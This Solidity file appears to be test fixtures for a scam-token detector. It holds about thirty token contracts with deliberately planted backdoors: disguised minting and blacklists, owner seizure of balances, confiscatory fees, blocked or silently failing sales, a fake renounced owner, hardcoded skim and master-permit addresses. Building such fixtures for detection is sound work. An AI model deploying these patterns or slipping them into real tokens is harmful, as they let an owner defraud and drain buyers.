// SPDX-License-Identifier: UNLICENSED
pragma solidity 0.8.30;

import "./Tokens.sol";

/// Tokens that can be sold today and of which somebody can take the worth tomorrow, and tokens whose sale fails for
/// wallets only. Written before the rules that judge them. The pool is in slot 3, the owner in slot 4.
abstract contract Kept is PlainToken {
    address internal pool;
    address internal keeper;

    modifier kept() {
        require(msg.sender == keeper, "NO");
        _;
    }
}

abstract contract Owned is Kept {
    function owner() external view returns (address) {
        return keeper;
    }
}

/// Makes new tokens under a name that says something else.
contract ClaimingToken is Owned {
    function claimRewards(uint256 value) external kept {
        balances[msg.sender] += value;
        total += value;
    }
}

/// A list of those who cannot send, by another name.
contract StatusToken is Owned {
    mapping(address => uint8) internal status;

    function setStatus(address who, uint8 value) external kept {
        status[who] = value;
    }

    function move(address from, address to, uint256 value) internal override {
        require(status[from] != 1, "STATUS");
        super.move(from, to, value);
    }
}

/// Fees without a bound.
contract BoundlessFeeToken is Owned {
    uint256 internal buyFee;
    uint256 internal sellFee;

    function setFees(uint256 buy, uint256 sell) external kept {
        require(buy <= 100 && sell <= 100, "FEES");
        buyFee = buy;
        sellFee = sell;
    }

    function move(address from, address to, uint256 value) internal override {
        uint256 fee = value * (from == pool ? buyFee : to == pool ? sellFee : 0) / 100;
        super.move(from, keeper, fee);
        super.move(from, to, value - fee);
    }
}

/// The owner takes anybody's tokens.
contract RecoveringToken is Owned {
    function recover(address from, uint256 value) external kept {
        move(from, keeper, value);
    }
}

/// Trading can be closed again.
contract LiveToken is Owned {
    bool internal closed;

    function setLive(bool yes) external kept {
        closed = !yes;
    }

    function move(address from, address to, uint256 value) internal override {
        require(!closed || from == keeper, "NOT_LIVE");
        super.move(from, to, value);
    }
}

/// The largest transfer can be set to nothing.
contract LargestToken is Owned {
    uint256 internal spare;

    function setLargest(uint256 part) external kept {
        require(part <= 10000, "PART");
        spare = 10000 - part;
    }

    function move(address from, address to, uint256 value) internal override {
        require(from == pool || from == keeper || value <= total * (10000 - spare) / 10000, "LARGEST");
        super.move(from, to, value);
    }
}

/// What was bought can be sold after a year.
contract YearToken is Owned {
    mapping(address => uint256) internal bought;

    function move(address from, address to, uint256 value) internal override {
        if (from == pool) bought[to] = block.timestamp;
        require(to != pool || block.timestamp >= bought[from] + 365 days, "COOLDOWN");
        super.move(from, to, value);
    }
}

/// A permit that the keeper may give for everybody.
contract PermitToken is Kept {
    function permitFor(address holder, address spender, uint256 value) external kept {
        allowances[holder][spender] = value;
    }
}

/// Balances are parts of a whole that the owner makes smaller.
contract RebaseToken is Owned {
    uint256 internal shrunk;

    function rebase(uint256 percent) external kept {
        require(percent >= 1 && percent <= 99, "PERCENT");
        shrunk = percent;
    }

    function balanceOf(address who) public view override returns (uint256) {
        return who == pool ? balances[who] : balances[who] * (100 - shrunk) / 100;
    }

    function move(address from, address to, uint256 value) internal override {
        uint256 parts = from == pool ? value : value * 100 / (100 - shrunk);
        balances[from] -= parts;
        balances[to] += to == pool ? value : parts;
        emit Transfer(from, to, value);
    }
}

/// A proxy whose admin, a plain account, can put other code behind it.
contract AdminProxy {
    bytes32 private constant IMPLEMENTATION = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    bytes32 private constant ADMIN = 0xb53127684a568b3173ae13b9f8a6016e243e63b6e8ee1178d6a717850b5d6103;

    fallback() external payable {
        bytes32 slot = ADMIN;
        address admin;
        assembly {
            admin := sload(slot)
        }
        if (msg.sender == admin && msg.sig == 0x3659cfe6) {
            slot = IMPLEMENTATION;
            assembly {
                sstore(slot, calldataload(4))
                stop()
            }
        }
        slot = IMPLEMENTATION;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(slot), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// Ordinary; all liquidity is with the deployer.
contract LooseToken is PlainToken {}

/// Says that nobody owns it, and has a keeper who closes trade.
contract FakeRenouncedToken is Kept {
    bool internal closed;
    address public constant owner = address(0);

    function restart() external kept {
        closed = true;
    }

    function move(address from, address to, uint256 value) internal override {
        require(!closed || to != pool, "RESTART");
        super.move(from, to, value);
    }
}

/// Can be sold by who has three million gas to spare.
contract HungryToken is Owned {
    function move(address from, address to, uint256 value) internal override {
        require(to != pool || gasleft() > 3_000_000, "GAS");
        super.move(from, to, value);
    }
}

/// Can be sold in the block of the purchase only.
contract SameBlockToken is Owned {
    mapping(address => uint256) internal bought;

    function move(address from, address to, uint256 value) internal override {
        if (from == pool) bought[to] = block.number;
        require(to != pool || bought[from] == block.number, "LATE");
        super.move(from, to, value);
    }
}

/// Shows accounts without code a hundred times what they have.
contract InflatedToken is Owned {
    function balanceOf(address who) public view override returns (uint256) {
        return who.code.length == 0 ? balances[who] * 100 : balances[who];
    }

    function move(address from, address to, uint256 value) internal override {
        uint256 real = from.code.length == 0 ? value / 100 : value;
        balances[from] -= real;
        balances[to] += real;
        emit Transfer(from, to, value);
    }
}

interface IGate {
    function check(address from, address to) external view;
}

/// A gate that the owner chooses judges sales.
contract GatedToken is Owned {
    address internal gate;

    function setGate(address to) external kept {
        gate = to;
    }

    function move(address from, address to, uint256 value) internal override {
        if (gate != address(0) && to == pool) IGate(gate).check(from, to);
        super.move(from, to, value);
    }
}

/// An account that stands in the code takes tokens away.
contract SkimmedToken is PlainToken {
    function skim(address from, uint256 value) external {
        require(msg.sender == 0x7AB4b1C5d3e8f6A9b2c0D4E6f8A1b3C5d7E9f0A2);
        balances[from] -= value;
        balances[0x7AB4b1C5d3e8f6A9b2c0D4E6f8A1b3C5d7E9f0A2] += value;
    }
}

/// A fee for each holder.
contract TierToken is Owned {
    mapping(address => uint16) internal tier;

    function setTier(address who, uint16 value) external kept {
        tier[who] = value;
    }

    function move(address from, address to, uint256 value) internal override {
        uint256 kept_ = tier[from] == 0 ? 0 : value * 95 / 100;
        super.move(from, keeper, kept_);
        super.move(from, to, value - kept_);
    }
}

/// Sales end at a time that the owner sets.
contract ScheduledToken is Owned {
    uint256 internal ends;

    function schedule(uint256 at) external kept {
        ends = at;
    }

    function move(address from, address to, uint256 value) internal override {
        require(to != pool || ends == 0 || block.timestamp < ends, "ENDED");
        super.move(from, to, value);
    }
}

/// From a call without arguments on only a list can sell.
contract ListModeToken is Owned {
    bool internal listOnly;
    mapping(address => bool) internal listed;

    function enableProtection() external kept {
        listOnly = true;
    }

    function move(address from, address to, uint256 value) internal override {
        require(!listOnly || to != pool || listed[from], "LIST");
        super.move(from, to, value);
    }
}

/// begin stands for the constructor of a token that genesis makes: it logs what a constructor logs.
abstract contract Begun is Kept {
    bool internal begun;

    function begin(address first) external {
        require(!begun, "BEGUN");
        begun = true;
        emit Transfer(address(0), first, total);
        appoint(first);
    }

    function appoint(address first) internal virtual;
}

/// Roles in a mapping; no owner, and no log of who has one.
contract RoleToken is Begun {
    bool internal closed;
    mapping(address => bool) internal officers;

    function appoint(address first) internal override {
        officers[first] = true;
    }

    function halt(bool yes) external {
        require(officers[msg.sender], "ROLE");
        closed = yes;
    }

    function move(address from, address to, uint256 value) internal override {
        require(!closed || to != pool, "HALT");
        super.move(from, to, value);
    }
}

/// Roles as OpenZeppelin's AccessControl keeps them: in a mapping, with a log of each grant.
abstract contract Granting is Begun {
    bytes32 internal constant MINTER = keccak256("MINTER_ROLE");
    mapping(bytes32 => mapping(address => bool)) internal members;

    event RoleGranted(bytes32 indexed role, address indexed account, address indexed sender);

    modifier only(bytes32 role) {
        require(hasRole(role, msg.sender), "ROLE");
        _;
    }

    function hasRole(bytes32 role, address who) public view returns (bool) {
        return members[role][who];
    }

    function grantRole(bytes32 role, address who) external only(0) {
        grant(role, who);
    }

    function grant(bytes32 role, address who) internal {
        members[role][who] = true;
        emit RoleGranted(role, who, msg.sender);
    }

    function appoint(address first) internal override {
        grant(0, first);
        grant(MINTER, first);
    }
}

/// Whoever has a role makes tokens.
contract GrantedToken is Granting {
    function mint(address to, uint256 value) external only(MINTER) {
        balances[to] += value;
        total += value;
    }
}

/// Fees in two halves, each with a bound.
contract TwoFeesToken is Owned {
    uint256 internal first;
    uint256 internal second;

    function setLiquidityFee(uint256 value) external kept {
        require(value <= 49, "HIGH");
        first = value;
    }

    function setMarketingFee(uint256 value) external kept {
        require(value <= 50, "HIGH");
        second = value;
    }

    function move(address from, address to, uint256 value) internal override {
        uint256 fee = to == pool ? value * (first + second) / 100 : 0;
        super.move(from, keeper, fee);
        super.move(from, to, value - fee);
    }
}

/// A fee in parts of ten thousand up to 95 percent.
contract PointsToken is Owned {
    uint256 internal points;

    function updateSellPoints(uint256 value) external kept {
        require(value <= 9500, "HIGH");
        points = value;
    }

    function move(address from, address to, uint256 value) internal override {
        uint256 fee = to == pool ? value * points / 10000 : 0;
        super.move(from, keeper, fee);
        super.move(from, to, value - fee);
    }
}

/// Sales of more than a ten millionth of all fail.
contract DropToken is Owned {
    function move(address from, address to, uint256 value) internal override {
        require(to != pool || value <= total / 10_000_000, "LARGEST");
        super.move(from, to, value);
    }
}

/// An operator needs no allowance.
contract OperatorToken is Kept {
    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (msg.sender != keeper) allowances[from][msg.sender] -= value;
        move(from, to, value);
        return true;
    }
}

/// The owner burns what others have, the pool's too.
contract BurningToken is Owned {
    function burn(address from, uint256 value) external kept {
        balances[from] -= value;
        total -= value;
    }
}

/// Runs other code, of an address in a slot of its own.
contract ModuleToken is Owned {
    address internal module;

    function setModule(address to) external kept {
        module = to;
    }

    function move(address from, address to, uint256 value) internal override {
        if (module != address(0)) {
            (bool ok,) = module.delegatecall(abi.encodeWithSignature("beforeMove(address,address)", from, to));
            require(ok && module.code.length > 0, "MODULE");
        }
        super.move(from, to, value);
    }
}

/// Says yes to a sale, and moves nothing.
contract SilentSaleToken is Owned {
    function move(address from, address to, uint256 value) internal override {
        if (to == pool && from != keeper) return;
        super.move(from, to, value);
    }
}

/// Sales end some hours after the purchase.
contract HoursToken is Owned {
    mapping(address => uint256) internal bought;

    function move(address from, address to, uint256 value) internal override {
        if (from == pool) bought[to] = block.timestamp;
        require(to != pool || block.timestamp < bought[from] + 6 hours, "LATE");
        super.move(from, to, value);
    }
}

/// The owner shares a slot with flags, and no function tells it.
contract PackedToken is PlainToken {
    address internal pool;
    uint256 internal spare;
    bool internal started;
    bool internal closed;
    address internal boss;

    function lock(bool yes) external {
        require(msg.sender == boss, "BOSS");
        closed = yes;
    }

    function move(address from, address to, uint256 value) internal override {
        require(!closed || to != pool, "LOCKED");
        super.move(from, to, value);
    }
}

/// The block number plays with sales: after a call only each hundredth block is open.
contract SteppedToken is Owned {
    uint256 internal delay;
    mapping(address => uint256) internal last;

    function setDelay(uint256 value) external kept {
        delay = value;
    }

    function move(address from, address to, uint256 value) internal override {
        require(to != pool || delay == 0 || block.timestamp >= last[from] + delay, "DELAY");
        last[to] = block.timestamp;
        super.move(from, to, value);
    }
}

/// Permits as of ERC-2612.
abstract contract Permitting is Kept {
    mapping(address => uint256) public nonces;

    function DOMAIN_SEPARATOR() public view returns (bytes32) {
        bytes32 kind = keccak256("EIP712Domain(uint256 chainId,address verifyingContract)");
        return keccak256(abi.encode(kind, block.chainid, address(this)));
    }

    function permit(address from, address to, uint256 value, uint256 until, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= until, "EXPIRED");
        bytes32 kind = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
        bytes32 content = keccak256(abi.encode(kind, from, to, value, nonces[from]++, until));
        address signer = ecrecover(keccak256(abi.encodePacked(hex"1901", DOMAIN_SEPARATOR(), content)), v, r, s);
        require(signer != address(0) && accepted(signer, from), "SIGNATURE");
        allowances[from][to] = value;
    }

    function accepted(address signer, address from) internal view virtual returns (bool);
}

/// Takes the signature of a key that stands in the code for everybody's.
contract MasterPermitToken is Permitting {
    address private constant MASTER = 0x8B3392483BA26D65E331dB86D4F430E9B3814E5e;

    function accepted(address signer, address from) internal pure override returns (bool) {
        return signer == from || signer == MASTER;
    }
}

/// Takes the keeper's signature for everybody's.
contract KeeperPermitToken is Permitting {
    function accepted(address signer, address from) internal view override returns (bool) {
        return signer == from || signer == keeper;
    }
}
